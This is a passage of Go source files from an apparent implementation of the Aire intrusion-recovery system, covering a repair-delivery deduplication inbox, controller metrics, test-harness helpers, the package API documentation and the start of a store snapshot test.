// DefaultCap is the per-origin entry bound used when the inbox is
// constructed with cap <= 0.
const DefaultCap = 4096

// entry remembers one delivery's highest applied generation and outcome.
type entry struct {
	id      string
	seq     uint64
	gen     uint64
	outcome string
	ts      int64
	// pending marks a Begin not yet Committed; prev* hold the previously
	// committed state so a failed apply can roll back to it.
	pending     bool
	prevOK      bool
	prevGen     uint64
	prevOutcome string
	prevTS      int64
	elem        *list.Element
}

// originState is one sender's dedup memory.
type originState struct {
	entries map[string]*entry
	lru     *list.List // front = most recently seen
	// watermark is the highest delivery sequence evicted from the LRU by
	// the capacity bound: an arrival at or below it with no entry is
	// overwhelmingly a re-delivery of something applied and forgotten, so
	// it is re-acknowledged rather than re-applied.
	watermark uint64
	// gcSeq is the highest delivery sequence dropped by GC — the
	// administrative horizon. Below it, "applied or not" is no longer
	// knowable (a Held message retried after the horizon was never
	// applied), so arrivals are refused as Forgotten instead of silently
	// acked or re-applied.
	gcSeq uint64
	// holes records sequences known to be *never applied*: deliveries
	// whose apply was begun and rolled back with no previously committed
	// state (the sender typically parks such a message Held awaiting
	// Retry). The watermark assumes every sequence below it was applied;
	// without this set, a Held message retried after InboxCap+ later
	// deliveries from the same origin pushed the watermark past it would
	// be misread as a duplicate and the repair silently lost. A hole is
	// cleared when its delivery is reserved again, pruned by GC, and
	// persisted with the origin. It cannot cover deliveries the inbox
	// never saw at all (dropped in the network before the first Begin);
	// for a never-announcing sender those retain the watermark's
	// InboxCap-bounded misread — version-vector mode closes it to zero
	// (TestEvictionResidualZeroUnderVectors).
	holes map[uint64]bool
	// acked is the sender's announced highest contiguous acknowledged
	// sequence for this receiver (version-vector mode): every delivery it
	// ever stamped for us at or below it has reached a terminal outcome
	// here, so arrivals in that prefix are duplicates exactly and entries
	// covering it can be compacted away.
	acked uint64
	// frontier is the highest sequence the sender has announced stamping
	// for us; frontier > 0 marks the origin as vector-announcing, which
	// suspends capacity eviction (the acked prefix, not the LRU bound, is
	// what releases entries).
	frontier uint64
	// maxSeen is the highest sequence ever committed from this origin,
	// consulted by gap detection.
	maxSeen uint64
}

func newOriginState() *originState {
	return &originState{entries: map[string]*entry{}, lru: list.New(), holes: map[uint64]bool{}}
}

// Inbox is a per-origin dedup memory for repair-plane deliveries. Safe for
// concurrent use.
type Inbox struct {
	mu      sync.Mutex
	cap     int
	vv      bool
	high    int
	origins map[string]*originState
}

// NewInbox returns an empty inbox bounding each origin to cap entries
// (cap <= 0 means DefaultCap).
func NewInbox(cap int) *Inbox {
	if cap <= 0 {
		cap = DefaultCap
	}
	return &Inbox{cap: cap, origins: map[string]*originState{}}
}

// EnableVectors switches the inbox into version-vector mode: post-eviction
// classification uses the sender-announced acked prefix (ObserveVector)
// instead of the watermark heuristic, and announcing origins release entries
// by ack compaction rather than LRU eviction. Must be called before the
// inbox is shared between goroutines. Origins that never announce a vector
// (a vectors-off sender on the other end) keep the watermark behavior.
func (ib *Inbox) EnableVectors() { ib.vv = true }

// VectorObservation is the result of feeding one carrier's announced
// version vector into the inbox.
type VectorObservation struct {
	// Gap reports that the announced vector proves (or strongly suggests)
	// sender-side outstanding deliveries this inbox has never seen: the
	// carrier should be answered with a NACK asking the sender to re-offer
	// its unacknowledged backlog immediately.
	Gap bool
	// Compacted is the number of dedup entries released because the acked
	// prefix now covers them.
	Compacted int
	// Advanced reports that the stored acked/frontier for the origin moved,
	// i.e. the observation carries durable information worth logging.
	Advanced bool
	// Acked and MaxSeen echo the origin's state after the observation (the
	// NACK response header value and debug surfaces use them).
	Acked   uint64
	MaxSeen uint64
}

// ObserveVector ingests the version vector announced on one carrier from
// origin: acked is the sender's highest contiguous acknowledged sequence for
// this receiver, frontier the highest sequence it has stamped for us, and
// curSeq the carrier's own delivery sequence (0 for sequence-less carriers
// such as notifies). Both stored values are monotonic maxima, so replaying
// an observation is idempotent. Entries covered by the acked prefix are
// compacted away — the sender only advances the prefix after consuming this
// inbox's terminal outcome, so they can never be asked about again except by
// a network-duplicated ghost, which the prefix itself classifies.
//
// Gap detection is advisory and err-on-NACK: a false positive only causes
// the sender to re-offer messages it was already holding, which delivery
// dedup absorbs. Two signals are used: (1) the sender's contiguous acked
// prefix stops more than one sequence short of the carrier's own — since the
// sender assigns sequences from a shared counter, acked < curSeq-1 proves an
// older delivery for this receiver is still outstanding (possibly in flight,
// possibly lost); (2) the announced frontier is beyond both the acked prefix
// and anything this inbox has ever committed, so a newest delivery has never
// arrived.
func (ib *Inbox) ObserveVector(origin string, acked, frontier, curSeq uint64) VectorObservation {
	ib.mu.Lock()
	defer ib.mu.Unlock()
	o := ib.origins[origin]
	if o == nil {
		o = newOriginState()
		ib.origins[origin] = o
	}
	var obs VectorObservation
	if acked > o.acked {
		o.acked = acked
		obs.Advanced = true
	}
	if frontier > o.frontier {
		o.frontier = frontier
		obs.Advanced = true
	}
	for id, e := range o.entries {
		if !e.pending && e.seq > 0 && e.seq <= o.acked {
			o.lru.Remove(e.elem)
			delete(o.entries, id)
			obs.Compacted++
		}
	}
	for seq := range o.holes {
		if seq <= o.acked {
			delete(o.holes, seq)
		}
	}
	effSeen := o.maxSeen
	if curSeq > effSeen {
		effSeen = curSeq
	}
	if curSeq > 0 && o.acked+1 < curSeq {
		obs.Gap = true
	}
	if o.frontier > effSeen && o.frontier > o.acked {
		obs.Gap = true
	}
	obs.Acked, obs.MaxSeen = o.acked, o.maxSeen
	return obs
}

// HighWater reports the maximum total entry count the inbox ever held —
// the memory bound ack compaction is asserted against.
func (ib *Inbox) HighWater() int {
	ib.mu.Lock()
	defer ib.mu.Unlock()
	return ib.high
}

// Seq extracts the sender's monotonic sequence number from a delivery ID
// ("svc-dlv-42" → 42); 0 if the ID carries none. Sequence-less IDs are
// still deduplicated while their entry lives, but cannot be covered by the
// eviction watermark.
func Seq(deliveryID string) uint64 {
	i := strings.LastIndexByte(deliveryID, '-')
	if i < 0 {
		return 0
	}
	n, err := strconv.ParseUint(deliveryID[i+1:], 10, 64)
	if err != nil {
		return 0
	}
	return n
}

// Begin classifies one arriving delivery and, when the verdict is Apply,
// reserves the (id, gen) pair so the caller can apply the repair and then
// Commit its outcome (or Rollback a failed apply). Duplicate returns the
// outcome recorded by the original application ("" if the entry was evicted
// and only the watermark vouches for it).
//
// once marks a once-only operation (a repair `create`): its effect is
// minted exactly once per delivery identity, so any committed entry makes
// a later arrival a Duplicate regardless of generation — a generation bump
// (Retry with refreshed credentials) cannot supersede a request that was
// already created.
func (ib *Inbox) Begin(origin, id string, gen uint64, once bool) (Decision, string) {
	ib.mu.Lock()
	defer ib.mu.Unlock()
	o := ib.origins[origin]
	if o == nil {
		o = newOriginState()
		ib.origins[origin] = o
	}
	e, ok := o.entries[id]
	if !ok {
		if seq := Seq(id); seq > 0 {
			if seq <= o.gcSeq {
				return Forgotten, ""
			}
			// Version-vector mode: the sender-announced acked prefix is
			// exact — it only advances after this inbox's terminal outcome
			// was consumed by the sender — so an arrival inside it is a
			// duplicate whatever its generation (a superseding generation of
			// an acked delivery cannot exist: supersede bumps the queued
			// message in place, and acked means it left the queue).
			if ib.vv && seq <= o.acked {
				return Duplicate, ""
			}
			// The eviction watermark vouches only for the generation-zero
			// copy: an arrival carrying a bumped generation is superseding
			// content that must still land (re-applying replace/delete is
			// idempotent), so only gen-0 arrivals are swallowed here — and
			// never one recorded as a hole (begun, rolled back, entry
			// removed): that delivery is known never-applied, so a retry
			// must re-apply however far the watermark has advanced. (In
			// vector mode announcing origins never evict, so their
			// watermark stays zero and this rule is the fallback for
			// vectors-off senders only.)
			if seq <= o.watermark && gen == 0 && !o.holes[seq] {
				return Duplicate, ""
			}
			// Reserving closes the hole; a failed apply re-opens it.
			delete(o.holes, seq)
		}
		e = &entry{id: id, seq: Seq(id), gen: gen, pending: true}
		e.elem = o.lru.PushFront(e)
		o.entries[id] = e
		ib.noteHighLocked()
		ib.evictLocked(o)
		return Apply, ""
	}
	o.lru.MoveToFront(e.elem)
	if e.pending {
		// Another copy of this delivery is mid-apply. Whatever the
		// relative generations, answer retryably: reserving over the
		// pending apply would let two applies race to land last (the
		// stale one could win), and acking would vouch for an apply that
		// may yet fail. One apply at a time per delivery.
		return InFlight, ""
	}
	switch {
	case gen < e.gen:
		return Stale, ""
	case gen == e.gen || once:
		return Duplicate, e.outcome
	}
	// Newer content: save the committed state as the rollback fallback and
	// reserve.
	e.prevOK, e.prevGen, e.prevOutcome, e.prevTS = true, e.gen, e.outcome, e.ts
	e.pending = true
	e.gen = gen
	e.outcome = ""
	return Apply, ""
}

// Commit records a successful apply reserved by Begin: the outcome (for
// creates, the minted request ID) is what a future duplicate is
// re-acknowledged with, and ts (the receiver's logical clock) is what GC
// ages the entry by.
func (ib *Inbox) Commit(origin, id string, gen uint64, outcome string, ts int64) {
	ib.mu.Lock()
	defer ib.mu.Unlock()
	o := ib.origins[origin]
	if o == nil {
		return
	}
	e, ok := o.entries[id]
	if !ok || e.gen != gen {
		return
	}
	e.outcome = outcome
	e.ts = ts
	e.pending = false
	e.prevOK = false
	if e.seq > o.maxSeen {
		o.maxSeen = e.seq
	}
}

// Rollback releases a reservation whose apply failed, restoring the
// previously committed state (or forgetting the delivery entirely) so a
// later genuine retry is classified Apply again.
func (ib *Inbox) Rollback(origin, id string, gen uint64) {
	ib.mu.Lock()
	defer ib.mu.Unlock()
	o := ib.origins[origin]
	if o == nil {
		return
	}
	e, ok := o.entries[id]
	if !ok || !e.pending || e.gen != gen {
		return
	}
	if e.prevOK {
		e.gen, e.outcome, e.ts = e.prevGen, e.prevOutcome, e.prevTS
		e.pending, e.prevOK = false, false
		return
	}
	o.lru.Remove(e.elem)
	delete(o.entries, id)
	// Nothing of this delivery was ever applied: remember that, so the
	// eviction watermark cannot later misread its retry as a duplicate.
	if e.seq > 0 {
		o.holes[e.seq] = true
	}
}

// noteHighLocked records the total-entry high-water mark after an insert.
func (ib *Inbox) noteHighLocked() {
	n := 0
	for _, o := range ib.origins {
		n += len(o.entries)
	}
	if n > ib.high {
		ib.high = n
	}
}

// evictLocked enforces the per-origin bound, advancing the watermark over
// whatever committed entries fall off the LRU tail. In version-vector mode
// eviction is suspended for announcing origins: forgetting an entry the
// sender has not acknowledged is exactly the residual vectors exist to
// close, and the acked prefix (ObserveVector) is what releases entries
// instead — the origin may transiently exceed cap by the sender's
// unacknowledged window.
func (ib *Inbox) evictLocked(o *originState) {
	if ib.vv && (o.frontier > 0 || o.acked > 0) {
		return
	}
	for len(o.entries) > ib.cap {
		el := o.lru.Back()
		for el != nil && el.Value.(*entry).pending {
			el = el.Prev()
		}
		if el == nil {
			return // everything pending; over-cap transiently
		}
		e := el.Value.(*entry)
		o.lru.Remove(el)
		delete(o.entries, e.id)
		if e.seq > o.watermark {
			o.watermark = e.seq
		}
	}
}

// GC drops committed entries applied before the given logical timestamp —
// the same horizon the repair log is collected with (§9) — advancing each
// origin's gcSeq over them. Origins keep the horizon even when all entries
// are gone: an arrival below it is refused as Forgotten (410 on the wire),
// mirroring the repair log's "garbage-collected, permanently unavailable"
// stance — never silently acknowledged, because a Held message retried
// after the horizon was never applied and acking it would lose the repair.
func (ib *Inbox) GC(beforeTS int64) {
	ib.mu.Lock()
	defer ib.mu.Unlock()
	for _, o := range ib.origins {
		for id, e := range o.entries {
			if e.pending || e.ts >= beforeTS {
				continue
			}
			o.lru.Remove(e.elem)
			delete(o.entries, id)
			if e.seq > o.gcSeq {
				o.gcSeq = e.seq
			}
		}
		// Holes at or below the horizon are moot: arrivals there are
		// refused as Forgotten before the watermark is consulted.
		for seq := range o.holes {
			if seq <= o.gcSeq {
				delete(o.holes, seq)
			}
		}
	}
}

// Len reports the total number of live entries across all origins.
func (ib *Inbox) Len() int {
	ib.mu.Lock()
	defer ib.mu.Unlock()
	n := 0
	for _, o := range ib.origins {
		n += len(o.entries)
	}
	return n
}

// EntryDump is one persisted inbox entry.
type EntryDump struct {
	ID      string `json:"id"`
	Gen     uint64 `json:"gen"`
	Outcome string `json:"outcome,omitempty"`
	TS      int64  `json:"ts,omitempty"`
}

// OriginDump is one origin's persisted dedup memory.
type OriginDump struct {
	Origin    string      `json:"origin"`
	Watermark uint64      `json:"watermark,omitempty"`
	GCSeq     uint64      `json:"gc_seq,omitempty"`
	Entries   []EntryDump `json:"entries,omitempty"`
	// Holes are sequences known never-applied (begun and rolled back);
	// they survive crash-restart or an evicted Held message's Retry would
	// be swallowed by the restored watermark.
	Holes []uint64 `json:"holes,omitempty"`
	// Acked/Frontier persist the sender-announced version vector: the acked
	// prefix must be exactly as durable as the entry compaction it
	// justified, or a restored inbox would re-apply a compacted delivery.
	Acked    uint64 `json:"acked,omitempty"`
	Frontier uint64 `json:"frontier,omitempty"`
	MaxSeen  uint64 `json:"max_seen,omitempty"`
}

// Dump serializes the inbox for persistence: origins sorted by name,
// entries oldest-first in LRU order. Entries pending at capture time are
// dumped as their last committed state (or omitted if never committed) —
// an apply interrupted by the crash must re-apply after restore.
func (ib *Inbox) Dump() []OriginDump {
	ib.mu.Lock()
	defer ib.mu.Unlock()
	names := make([]string, 0, len(ib.origins))
	for name := range ib.origins {
		names = append(names, name)
	}
	sort.Strings(names)
	out := make([]OriginDump, 0, len(names))
	for _, name := range names {
		o := ib.origins[name]
		d := OriginDump{Origin: name, Watermark: o.watermark, GCSeq: o.gcSeq,
			Acked: o.acked, Frontier: o.frontier, MaxSeen: o.maxSeen}
		for el := o.lru.Back(); el != nil; el = el.Prev() {
			e := el.Value.(*entry)
			switch {
			case !e.pending:
				d.Entries = append(d.Entries, EntryDump{ID: e.id, Gen: e.gen, Outcome: e.outcome, TS: e.ts})
			case e.prevOK:
				d.Entries = append(d.Entries, EntryDump{ID: e.id, Gen: e.prevGen, Outcome: e.prevOutcome, TS: e.prevTS})
			case e.seq > 0:
				// Pending with nothing ever committed: the crash interrupts
				// the apply, so the restored inbox must re-apply — exactly
				// what Rollback would have recorded. Without this hole the
				// restored watermark (advanced by higher-seq evictions) would
				// swallow the retry as a Duplicate.
				d.Holes = append(d.Holes, e.seq)
			}
		}
		for seq := range o.holes {
			d.Holes = append(d.Holes, seq)
		}
		sort.Slice(d.Holes, func(i, j int) bool { return d.Holes[i] < d.Holes[j] })
		if d.Watermark > 0 || d.GCSeq > 0 || len(d.Entries) > 0 || len(d.Holes) > 0 ||
			d.Acked > 0 || d.Frontier > 0 || d.MaxSeen > 0 {
			out = append(out, d)
		}
	}
	return out
}

// Restore loads a persisted dump into an empty inbox.
func (ib *Inbox) Restore(dump []OriginDump) {
	ib.mu.Lock()
	defer ib.mu.Unlock()
	for _, d := range dump {
		o := ib.origins[d.Origin]
		if o == nil {
			o = newOriginState()
			ib.origins[d.Origin] = o
		}
		if d.Watermark > o.watermark {
			o.watermark = d.Watermark
		}
		if d.GCSeq > o.gcSeq {
			o.gcSeq = d.GCSeq
		}
		if d.Acked > o.acked {
			o.acked = d.Acked
		}
		if d.Frontier > o.frontier {
			o.frontier = d.Frontier
		}
		if d.MaxSeen > o.maxSeen {
			o.maxSeen = d.MaxSeen
		}
		for _, seq := range d.Holes {
			if seq > o.gcSeq {
				o.holes[seq] = true
			}
		}
		for _, de := range d.Entries {
			e := &entry{id: de.ID, seq: Seq(de.ID), gen: de.Gen, outcome: de.Outcome, ts: de.TS}
			e.elem = o.lru.PushFront(e)
			o.entries[de.ID] = e
			if e.seq > o.maxSeen {
				o.maxSeen = e.seq
			}
		}
		ib.noteHighLocked()
		ib.evictLocked(o)
	}
}
