package core

import "aire/internal/obs"

// ctrlMetrics caches the controller's observability handles, resolved once
// at NewController (handle resolution takes the registry mutex; updates are
// lock-free). With no registry configured (Config.Obs nil) every handle is
// nil, reg/ring are nil, and each instrumented site degenerates to a nil
// check with zero allocations — the property BenchmarkObsOverhead and
// TestObsDisabledZeroAlloc assert.
//
// Metric names are prefixed "core.<service>." so a harness sharing one
// registry across a mesh keeps per-service series.
type ctrlMetrics struct {
	// reg gates span recording and the clock reads that feed latency
	// histograms; ring is reg's span buffer. Both nil when disabled.
	reg  *obs.Registry
	ring *obs.Ring

	requests      *obs.Counter // live requests executed
	repairsRun    *obs.Counter // local repair passes completed
	msgsQueued    *obs.Counter // repair messages entering the outgoing queue
	msgsDelivered *obs.Counter // fresh deliveries acknowledged by the peer
	msgsFailed    *obs.Counter // terminal delivery failures (gone)
	inboxApply    *obs.Counter // inbox verdicts, by class
	inboxDup      *obs.Counter
	inboxStale    *obs.Counter
	inboxBusy     *obs.Counter
	inboxGone     *obs.Counter
	inboxCommits  *obs.Counter // exactly-once outcomes committed
	batchApplies  *obs.Counter // ProcessIncoming batches applied

	vvGapNacks     *obs.Counter // receive-side gap detections NACKed to the sender
	vvReoffers     *obs.Counter // sender re-offer activations from peer NACKs
	vvCompacted    *obs.Counter // dedup-inbox entries released by acked-prefix compaction
	corruptRejects *obs.Counter // carriers refused on body-checksum mismatch

	queueDepth *obs.Gauge // live outgoing-queue entries

	deliverNS *obs.Histogram // one delivery attempt, wire call end to end
	repairNS  *obs.Histogram // one local repair pass (warp)
}

// newCtrlMetrics resolves every handle against reg (all-nil when reg is
// nil — *obs.Registry methods are nil-safe and return nil handles).
func newCtrlMetrics(reg *obs.Registry, svc string) ctrlMetrics {
	p := "core." + svc + "."
	return ctrlMetrics{
		reg:  reg,
		ring: reg.Ring(),

		requests:      reg.Counter(p + "requests"),
		repairsRun:    reg.Counter(p + "repairs_run"),
		msgsQueued:    reg.Counter(p + "msgs_queued"),
		msgsDelivered: reg.Counter(p + "msgs_delivered"),
		msgsFailed:    reg.Counter(p + "msgs_failed"),
		inboxApply:    reg.Counter(p + "inbox_apply"),
		inboxDup:      reg.Counter(p + "inbox_duplicate"),
		inboxStale:    reg.Counter(p + "inbox_stale"),
		inboxBusy:     reg.Counter(p + "inbox_in_flight"),
		inboxGone:     reg.Counter(p + "inbox_forgotten"),
		inboxCommits:  reg.Counter(p + "inbox_commits"),
		batchApplies:  reg.Counter(p + "batch_applies"),

		vvGapNacks:     reg.Counter(p + "vv_gap_nacks"),
		vvReoffers:     reg.Counter(p + "vv_reoffers"),
		vvCompacted:    reg.Counter(p + "vv_compacted"),
		corruptRejects: reg.Counter(p + "corrupt_rejects"),

		queueDepth: reg.Gauge(p + "queue_depth"),

		deliverNS: reg.Histogram(p + "deliver_ns"),
		repairNS:  reg.Histogram(p + "repair_ns"),
	}
}
