package harness

import (
	"aire/internal/apps/askbot"
	"aire/internal/apps/dpaste"
	"aire/internal/apps/oauthsvc"
	"aire/internal/apps/spreadsheet"
	"aire/internal/vdb"
	"aire/internal/warp"
	"aire/internal/wire"
)

// Store-key helpers for scenario verification.

func configKey(id string) vdb.Key   { return vdb.Key{Model: oauthsvc.ModelConfig, ID: id} }
func userKey(id string) vdb.Key     { return vdb.Key{Model: askbot.ModelUser, ID: id} }
func questionKey(id string) vdb.Key { return vdb.Key{Model: askbot.ModelQuestion, ID: id} }
func snippetKey(id string) vdb.Key  { return vdb.Key{Model: dpaste.ModelSnippet, ID: id} }
func cellPtrKey(id string) vdb.Key  { return vdb.Key{Model: spreadsheet.ModelCellPtr, ID: id} }
func aclKey(id string) vdb.Key      { return vdb.Key{Model: spreadsheet.ModelACL, ID: id} }

func cancelAction(reqID string) warp.Action {
	return warp.Action{Kind: warp.CancelReq, ReqID: reqID}
}

func setCell(cell, value, user, token string) wire.Request {
	return wire.NewRequest("POST", "/set").
		WithForm("cell", cell, "value", value, "user", user).
		WithHeader("X-User-Token", token)
}

func getCell(cell string) wire.Request {
	return wire.NewRequest("GET", "/get").WithForm("cell", cell)
}

// newSheet builds a spreadsheet app instance for harness tests.
func newSheet(name string) *spreadsheet.App {
	return spreadsheet.New(name, BootstrapToken)
}
