// Package aire is a Go implementation of Aire, the asynchronous intrusion
// recovery system for interconnected web services described in:
//
//	Ramesh Chandra, Taesoo Kim, and Nickolai Zeldovich.
//	"Asynchronous intrusion recovery for interconnected web services."
//	SOSP 2013.
//
// Each web service that wishes to support recovery runs an Aire controller.
// During normal operation the controller logs the service's execution —
// requests, responses, database accesses, outgoing HTTP calls, and
// nondeterminism — and tracks dependencies across services by tagging every
// message with Aire identifiers. When an administrator cancels an attack
// request, Aire repairs the local state by rollback and selective
// re-execution, and asynchronously propagates repair to affected peers with
// a four-operation protocol (replace, delete, create, replace_response)
// that tolerates offline services and expired credentials.
//
// # Building a service
//
// Implement the App interface (Name, Register, Authorize), then create a
// controller and attach it to a transport:
//
//	bus := aire.NewBus()
//	ctrl := aire.NewService(myApp, bus)
//	bus.Register(myApp.Name(), ctrl)
//
// Handlers registered in Register interact with state only through the
// request context's dependency-tracked ORM (c.DB), issue outgoing calls
// with c.Call, read time with c.Now, and record external side effects with
// c.Effect — the interposition points Aire needs for replay.
//
// # Repairing
//
// To undo an attack request, its administrator calls:
//
//	result, err := ctrl.ApplyLocal(aire.Cancel(reqID))
//	ctrl.Flush() // or aire.Settle(...) across services
//
// Remote services receive repair through the /aire/* API automatically; the
// application's Authorize policy decides which repair messages to accept.
//
// See the examples directory for complete programs, and DESIGN.md for the
// mapping from the paper's sections to packages.
package aire

import (
	"context"

	"aire/internal/core"
	"aire/internal/orm"
	"aire/internal/transport"
	"aire/internal/warp"
	"aire/internal/web"
	"aire/internal/wire"
)

// Re-exported message types (see internal/wire).
type (
	// Request is an API operation sent to a service.
	Request = wire.Request
	// Response is a service's answer to a Request.
	Response = wire.Response
)

// Aire dependency-tracking headers (§3.1 of the paper).
const (
	HdrRequestID   = wire.HdrRequestID
	HdrResponseID  = wire.HdrResponseID
	HdrNotifierURL = wire.HdrNotifierURL
	HdrRepair      = wire.HdrRepair
)

// NewRequest returns a Request with initialized maps.
func NewRequest(method, path string) Request { return wire.NewRequest(method, path) }

// NewResponse returns a Response with the given status and body.
func NewResponse(status int, body string) Response { return wire.NewResponse(status, body) }

// Application-side types.
type (
	// App is the contract between Aire and a web service: identity, route
	// and model registration, and the repair access-control policy of §4.
	App = core.App
	// AuthzRequest carries the context for one Authorize decision.
	AuthzRequest = core.AuthzRequest
	// Notification reports repair problems (unreachable peers, rejected
	// credentials, compensations, leaks) to the application.
	Notification = core.Notification
	// Ctx is the per-request handler context with the tracked ORM, the
	// intercepted outgoing-call API, and recorded nondeterminism.
	Ctx = web.Ctx
	// Handler processes one request.
	Handler = web.Handler
	// Service is the per-service runtime state (router, versioned store,
	// repair log, logical clock).
	Service = web.Service
	// Obj is one model object (ID plus string fields).
	Obj = orm.Obj
	// Controller is the Aire runtime for one service.
	Controller = core.Controller
	// Config tunes a controller.
	Config = core.Config
	// Result summarizes one local repair.
	Result = warp.Result
	// Action is one local repair instruction.
	Action = warp.Action
	// PendingMsg is a queued outgoing repair message.
	PendingMsg = core.PendingMsg
	// PeerVectorDump is one peer's sender-side anti-entropy vector state
	// (Controller.VectorDump; Config.VersionVectors).
	PeerVectorDump = core.PeerVectorDump
	// Backoff is the exponential retry schedule the repair pump applies to
	// unreachable peers (zero value: legacy park-after-MaxAttempts).
	Backoff = core.Backoff
	// ShardTopology is the deterministic key→shard map shared by every
	// sender and shard of a horizontally partitioned service
	// (Config.Topology).
	ShardTopology = core.ShardTopology
	// ShardedController is the router fronting one sharded service: N full
	// per-shard controllers (own store, log, inbox, pump, WAL) behind the
	// service's transport name.
	ShardedController = core.ShardedController
	// Bus is the in-memory service fabric used to connect services.
	Bus = transport.Bus
)

// Fields builds an ORM field map from key/value pairs.
func Fields(kv ...string) map[string]string { return orm.Fields(kv...) }

// NewBus returns an empty in-memory service fabric with offline-fault
// injection (see also transport's net/http adapter for real sockets).
func NewBus() *Bus { return transport.NewBus() }

// DefaultConfig returns the controller configuration used in the paper
// reproduction experiments.
func DefaultConfig() Config { return core.DefaultConfig() }

// DefaultBackoff returns the exponential backoff schedule used by the
// production repair pump (50ms doubling to a 5s cap). Assign it to
// Config.Backoff to keep repair messages to unreachable peers live and
// retried on a schedule instead of parked after Config.MaxAttempts.
func DefaultBackoff() Backoff { return core.DefaultBackoff() }

// NewService builds the Aire runtime for app, delivering outgoing calls and
// repair messages over net. The caller must still register the returned
// controller on the transport under app.Name().
func NewService(app App, net core.Caller) *Controller {
	return core.NewController(app, net, DefaultConfig())
}

// NewServiceWithConfig is NewService with an explicit configuration.
func NewServiceWithConfig(app App, net core.Caller, cfg Config) *Controller {
	return core.NewController(app, net, cfg)
}

// NewShardTopology returns an empty shard topology (every service
// unsharded). Declare shard counts with SetShards before constructing
// controllers, and hand the same topology to every controller's
// Config.Topology.
func NewShardTopology() *ShardTopology { return core.NewShardTopology() }

// NewShardedService wraps base's shard controllers (index order) in the
// router that owns the service's transport name. Each shard must have
// been built with the shared topology and named topo.ShardName(base, i);
// register the shards under their own names too, so repair-plane peers
// can address them directly.
func NewShardedService(base string, topo *ShardTopology, shards []*Controller) *ShardedController {
	return core.NewShardedController(base, topo, shards)
}

// Cancel builds the repair action that undoes a past request and all its
// effects (Table 1 "delete").
func Cancel(reqID string) Action {
	return Action{Kind: warp.CancelReq, ReqID: reqID}
}

// Replace builds the repair action that re-executes a past request with
// corrected content (Table 1 "replace").
func Replace(reqID string, newReq Request) Action {
	return Action{Kind: warp.ReplaceReq, ReqID: reqID, NewReq: newReq}
}

// CreateInPast builds the repair action that executes a new request between
// two past requests (Table 1 "create"). Either anchor may be empty.
func CreateInPast(req Request, beforeID, afterID string) Action {
	return Action{Kind: warp.CreateReq, NewReq: req, BeforeID: beforeID, AfterID: afterID}
}

// Settle drives the repair pump of all given controllers synchronously
// until the system quiesces or maxRounds passes elapse, returning the
// number of productive rounds. Each round runs one deterministic pump pass
// per controller (Controller.Flush — per-peer batches delivered in queue
// order) plus incoming-queue processing. Use it in tests and demos; a
// production deployment instead pumps queues continuously in the background
// with StartPumps (or Controller.StartPump), which delivers to distinct
// peers concurrently and retries unreachable peers with backoff.
//
// Settle returns at the first round that makes no progress. With
// Config.Backoff enabled, a round also skips peers inside their retry
// window, so Settle can return while such messages are still queued; drive
// controllers with StartPumps (or keep calling Flush as real time passes)
// to drain them. Backoff-enabled configs are meant for the background
// pump.
func Settle(maxRounds int, ctrls ...*Controller) int {
	rounds := 0
	for i := 0; i < maxRounds; i++ {
		progressed := false
		for _, c := range ctrls {
			if d, _ := c.Flush(); d > 0 {
				progressed = true
			}
			if r, _ := c.ProcessIncoming(); r != nil {
				progressed = true
			}
		}
		if !progressed {
			return rounds
		}
		rounds++
	}
	return rounds
}

// StartPumps starts the background repair pump of every given controller
// and returns a stop function that shuts them all down again (waiting for
// in-flight deliveries to reconcile). If any pump fails to start — it is
// already running — the pumps started so far are stopped and the error
// returned.
func StartPumps(ctx context.Context, ctrls ...*Controller) (stop func(), err error) {
	return core.StartPumps(ctx, ctrls...)
}
