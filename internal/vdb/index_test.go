package vdb

import (
	"fmt"
	"reflect"
	"sync"
	"testing"
)

// TestScanHashAtExcludingConsistentSnapshot is the torn-snapshot regression
// test: the fingerprint must be computed under one lock, so a concurrent
// writer can never interleave mid-fingerprint. The writer advances keys x
// and y in lockstep (x first, then y), so the only consistent states are
// (x=k, y=k) and (x=k+1, y=k). The pre-fix implementation collected member
// IDs under one lock and hashed each member under its own, so a reader
// could observe x at one round and y at a much earlier one — a state that
// never existed.
func TestScanHashAtExcludingConsistentSnapshot(t *testing.T) {
	const rounds = 400
	const ts = int64(100) // both keys live at this fixed timestamp
	s := NewStore()
	if err := s.Put(Key{"m", "x"}, fields("0"), ts, "w0"); err != nil {
		t.Fatal(err)
	}
	if err := s.Put(Key{"m", "y"}, fields("0"), ts, "w0"); err != nil {
		t.Fatal(err)
	}

	// Precompute every fingerprint a consistent snapshot may produce. The
	// writer's bump is rollback-then-put, so between the two either key is
	// transiently absent; those single-key states are consistent too.
	cx := func(v int) uint64 { return scanContrib("x", Version{Fields: fields(fmt.Sprint(v))}.Hash()) }
	cy := func(v int) uint64 { return scanContrib("y", Version{Fields: fields(fmt.Sprint(v))}.Hash()) }
	fp := func(xv, yv int) uint64 { return cx(xv) + cy(yv) }
	legal := make(map[uint64]bool, 4*rounds+4)
	for k := 0; k <= rounds; k++ {
		legal[fp(k, k)] = true   // between rounds
		legal[cy(k)] = true      // x mid-bump (absent)
		legal[fp(k+1, k)] = true // x bumped, y not yet
		legal[cx(k+1)] = true    // y mid-bump (absent)
	}

	var wg sync.WaitGroup
	done := make(chan struct{})
	wg.Add(1)
	go func() {
		defer wg.Done()
		defer close(done)
		bump := func(id string, v int) {
			s.Rollback(Key{"m", id}, ts-1)
			if err := s.Put(Key{"m", id}, fields(fmt.Sprint(v)), ts, "w0"); err != nil {
				panic(err)
			}
		}
		for k := 1; k <= rounds; k++ {
			bump("x", k)
			bump("y", k)
		}
	}()

	for {
		got := s.ScanHashAtExcluding("m", ts, "r-none")
		if !legal[got] {
			t.Fatalf("observed fingerprint %#x corresponds to no consistent (x, y) state: the snapshot tore", got)
		}
		select {
		case <-done:
			wg.Wait()
			if got := s.ScanHashAtExcluding("m", ts, "r-none"); got != fp(rounds, rounds) {
				t.Fatalf("final fingerprint %#x != expected %#x", got, fp(rounds, rounds))
			}
			return
		default:
		}
	}
}

// TestIndexedScansMatchLinearReference drives the store through every
// index-maintaining operation (Put, coalescing re-Put, Delete, Rollback,
// GC, Dump/Restore, PutImmutable) and checks at each step that the indexed
// IDs/IDsAt/ScanHashAt/ScanHashAtExcluding agree with the retained
// linear-scan reference implementations.
func TestIndexedScansMatchLinearReference(t *testing.T) {
	s := NewStore()
	check := func(stage string, tss ...int64) {
		t.Helper()
		for _, model := range []string{"kv", "other", "absent"} {
			for _, ts := range tss {
				if got, want := s.IDsAt(model, ts), s.IDsAtLinear(model, ts); !reflect.DeepEqual(got, want) {
